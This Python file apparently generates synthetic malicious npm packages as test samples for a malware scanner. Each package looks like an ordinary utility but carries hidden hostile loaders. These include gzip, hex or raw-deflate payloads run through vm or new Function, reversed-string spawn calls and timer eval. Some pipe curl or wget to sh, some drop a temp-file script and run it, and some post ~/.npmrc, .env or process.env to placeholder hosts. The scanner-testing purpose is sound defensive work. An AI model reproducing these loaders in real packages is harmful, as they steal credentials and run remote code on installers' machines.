"""Generalisation samples for scripts/make-samples.py (2026-11, issue 6, branch gen): malicious
variants of the loader classes the scanner learned on the `gen` branch (decompressed literals,
reversed strings, timers given decoded strings, write-then-load droppers, credential files sent
in requests), each in a code shape the holdout samples do not use (ESM, gzip instead of zlib,
raw deflate, hex instead of base64, spread reversal, fork/import()/execPath loaders, .npmrc in
a header). Same safety rules as samples_malicious.py: every source is Python string data, packed
into a tarball in memory, never written out, imported or run. Defanged: documentation IPs,
reserved host names, made-up tokens.
"""

import base64
import gzip
import zlib

from samples_malicious import S, pj
from samples_common import registry

SAMPLES, BENIGN, sample, benign = registry()


def _raw_deflate(b):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(b) + c.flush()


@sample
def gunzip_hex_stage_exec():
    payload = ("const { execSync } = require('child_process');"
               "execSync('curl -fsSL http://203.0.113.77/s.sh | sh', { stdio: 'ignore' });")
    blob = gzip.compress(payload.encode(), mtime=0).hex()
    files = {
        "package.json": pj(name="color-space-lite", version="1.4.2", main="index.js",
                           description="Convert colours between RGB, HSL and HWB"),
        "index.js": r'''"use strict";
const conv = require("./lib/convert");
require("./lib/cache");
module.exports = conv;
''',
        "lib/convert.js": r'''exports.rgbToHsl = function (r, g, b) {
  r /= 255; g /= 255; b /= 255;
  const max = Math.max(r, g, b), min = Math.min(r, g, b);
  const l = (max + min) / 2;
  if (max === min) return [0, 0, l * 100];
  const d = max - min;
  const s = l > 0.5 ? d / (2 - max - min) : d / (max + min);
  return [0, s * 100, l * 100];
};
''',
        "lib/cache.js": r'''const { gunzipSync } = require("zlib");
const vm = require("vm");
const table = Buffer.from("''' + blob + r'''", "hex");
vm.runInThisContext(gunzipSync(table).toString("utf8"))(require);
''',
    }
    return S(
        "gen-gunzip-hex-stage-exec",
        "gzip-compressed, hex-encoded stage gunzipped in memory and run with vm: curl | sh from a raw IP",
        "2022-2025",
        ["compressed-payload", "hex", "vm", "download-exec", "pipe-to-shell", "raw-ip"],
        "Synthetic. gzip plus hex instead of zlib plus base64; the decompression is a destructured "
        "import so no `zlib.` prefix appears at the call.",
        files,
    )


@sample
def inflate_raw_esm_postinstall():
    payload = ("const https = require('https');"
               "const r = https.request({ hostname: '198.51.100.140', path: '/e', method: 'POST' });"
               "r.end(JSON.stringify(process.env));")
    blob = base64.b64encode(_raw_deflate(payload.encode())).decode()
    files = {
        "package.json": pj(name="esm-path-utils", version="0.9.7", type="module",
                           main="index.js", scripts={"postinstall": "node setup.mjs"},
                           description="Small path helpers for ESM packages"),
        "index.js": "export const toPosix = (p) => p.replace(/\\\\/g, '/');\n",
        "setup.mjs": r'''import zlib from "node:zlib";
import { createRequire } from "node:module";
const require = createRequire(import.meta.url);
const src = zlib.inflateRawSync(Buffer.from("''' + blob + r'''", "base64")).toString();
new Function("require", src)(require);
''',
    }
    return S(
        "gen-inflate-raw-esm-postinstall",
        "raw-deflate payload in an ESM postinstall, inflated and run with new Function: process.env to a raw IP",
        "2023-2025",
        ["install-script", "compressed-payload", "esm", "function-constructor", "env-harvest", "raw-ip"],
        "Synthetic. inflateRawSync (no zlib header) from an ES module with createRequire.",
        files,
    )


@sample
def spread_reverse_spawn():
    def rv(s):
        return s[::-1]
    files = {
        "package.json": pj(name="tiny-slugify-x", version="3.0.1", main="index.js",
                           description="Turn strings into URL slugs"),
        "index.js": r'''"use strict";
const flip = function (t) { return [...t].reverse().join(""); };
module.exports = (s) => String(s).toLowerCase().replace(/[^a-z0-9]+/g, "-").replace(/^-|-$/g, "");
try {
  const cp = require(flip("''' + rv("child_process") + r'''"));
  cp[flip("''' + rv("spawn") + r'''")](flip("''' + rv("sh") + r'''"), ["-c", flip("''' + rv("wget -qO- http://192.0.2.91/p | sh") + r'''")], { detached: true, stdio: "ignore" }).unref();
} catch (_) {}
''',
    }
    return S(
        "gen-spread-reverse-spawn",
        "module name, method and a wget | sh command stored reversed and flipped by a spread-based helper",
        "2023-2025",
        ["reversed-strings", "child-process", "download-exec", "pipe-to-shell", "detached-process", "raw-ip"],
        "Synthetic. A function-expression helper using [...t].reverse() instead of split('').",
        files,
    )


@sample
def setinterval_hex_npmrc():
    payload = ("const fs=require('fs'),os=require('os'),h=require('http');"
               "const t=fs.readFileSync(os.homedir()+'/.npmrc','utf8');"
               "const q=h.request({host:'203.0.113.12',port:8080,path:'/n',method:'POST'});q.end(t);")
    files = {
        "package.json": pj(name="debounce-plus", version="2.2.0", main="index.js",
                           description="Debounce and throttle with leading/trailing options"),
        "index.js": r'''"use strict";
module.exports = function debounce(fn, ms) {
  let t;
  return function (...a) { clearTimeout(t); t = setTimeout(() => fn.apply(this, a), ms); };
};
const tick = setInterval(Buffer.from("''' + payload.encode().hex() + r'''", "hex").toString(), 6 * 60 * 60 * 1000);
if (tick.unref) tick.unref();
''',
    }
    return S(
        "gen-setinterval-hex-npmrc",
        "setInterval given a hex-decoded string: ~/.npmrc posted to a raw IP every six hours",
        "2022-2025",
        ["timer-eval", "hex", "sensitive-file-read", "token-theft", "raw-ip"],
        "Synthetic. A timer as eval, with hex instead of atob, in an unref'd interval.",
        files,
    )


@sample
def dropper_pipe_fork():
    files = {
        "package.json": pj(name="locale-data-sync", version="1.0.5", main="index.js",
                           description="Keeps CLDR locale data current"),
        "index.js": r'''"use strict";
const http = require("http");
const fs = require("fs");
const os = require("os");
const path = require("path");
const { fork } = require("child_process");
const dest = path.join(os.tmpdir(), ".locale-" + process.pid + ".js");
http.get("http://198.51.100.77:8000/l", (res) => {
  const out = fs.createWriteStream(dest);
  res.pipe(out);
  out.on("finish", () => {
    const c = fork(dest, [], { detached: true, stdio: "ignore" });
    c.unref();
  });
}).on("error", () => {});
module.exports = { locales: ["en", "de", "fr"] };
''',
    }
    return S(
        "gen-dropper-pipe-fork",
        "downloads a script into the temp folder by piping a response to a file, then forks it detached",
        "2021-2025",
        ["dropper", "download-exec", "fork", "detached-process", "raw-ip", "network"],
        "Synthetic. Stream pipe plus child_process.fork of the same path variable.",
        files,
    )


@sample
def dropper_fetch_import():
    files = {
        "package.json": pj(name="vite-plugin-envcheck", version="0.3.2", type="module",
                           main="index.mjs", description="Checks env files during vite builds"),
        "index.mjs": r'''import { writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
export default function envcheck() {
  return {
    name: "envcheck",
    async buildStart() {
      try {
        const r = await fetch("http://192.0.2.33/plugin/rt.mjs");
        const file = join(tmpdir(), "rt-" + Date.now() + ".mjs");
        await writeFile(file, Buffer.from(await r.arrayBuffer()));
        await import(pathToFileURL(file).href);
      } catch {}
    },
  };
}
''',
    }
    return S(
        "gen-dropper-fetch-import",
        "a vite plugin that fetches a module from a raw IP at build start, writes it to tmp and import()s it",
        "2024-2025",
        ["dropper", "esm", "dynamic-import", "raw-ip", "network"],
        "Synthetic. fetch + arrayBuffer + fs/promises writeFile + import(pathToFileURL(file).href).",
        files,
    )


@sample
def dotenv_body_exfil():
    files = {
        "package.json": pj(name="config-guard", version="1.1.0", main="index.js",
                           description="Validates configuration at startup"),
        "index.js": r'''"use strict";
const fs = require("fs");
const path = require("path");
const https = require("https");
function validate(schema, cfg) {
  return Object.keys(schema).filter((k) => !(k in cfg));
}
module.exports = function guard(schema) {
  let envText = "";
  try {
    envText = fs.readFileSync(path.resolve(process.cwd(), ".env"), "utf8");
  } catch (_) {}
  const report = JSON.stringify({ cwd: process.cwd(), missing: validate(schema, process.env), envText });
  const req = https.request({ host: "0000-203-0-113-5.ngrok-free.app", path: "/v", method: "POST",
    headers: { "content-type": "application/json" } });
  req.on("error", () => {});
  req.write(report);
  req.end();
  return validate(schema, process.env);
};
''',
    }
    return S(
        "gen-dotenv-body-exfil",
        "a config validator that reads the project's .env and posts it inside a JSON report to a tunnel",
        "2023-2025",
        ["dotenv", "credential-file", "exfiltration", "tunnel", "network"],
        "Synthetic. Assignment (not declaration) of the read, then a JSON report written to the request.",
        files,
    )


@sample
def npmrc_header_exfil():
    files = {
        "package.json": pj(name="npm-auth-check", version="0.4.1", main="index.js",
                           scripts={"postinstall": "node index.js"},
                           description="Warns when your registry auth is about to expire"),
        "index.js": r'''const fs = require("fs");
const os = require("os");
const path = require("path");
const rc = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
const stamp = Buffer.from(rc).toString("base64");
fetch("https://auth-check.example/v1/ping", {
  method: "GET",
  headers: { "x-client-stamp": stamp, "user-agent": "npm-auth-check" },
}).catch(() => {});
''',
    }
    return S(
        "gen-npmrc-header-exfil",
        "postinstall reads ~/.npmrc and sends it base64 in a request header",
        "2018-2025",
        ["install-script", "npmrc", "token-theft", "header-exfil", "network"],
        "Synthetic. The whole file, encoded, in a custom header of a GET request.",
        files,
    )
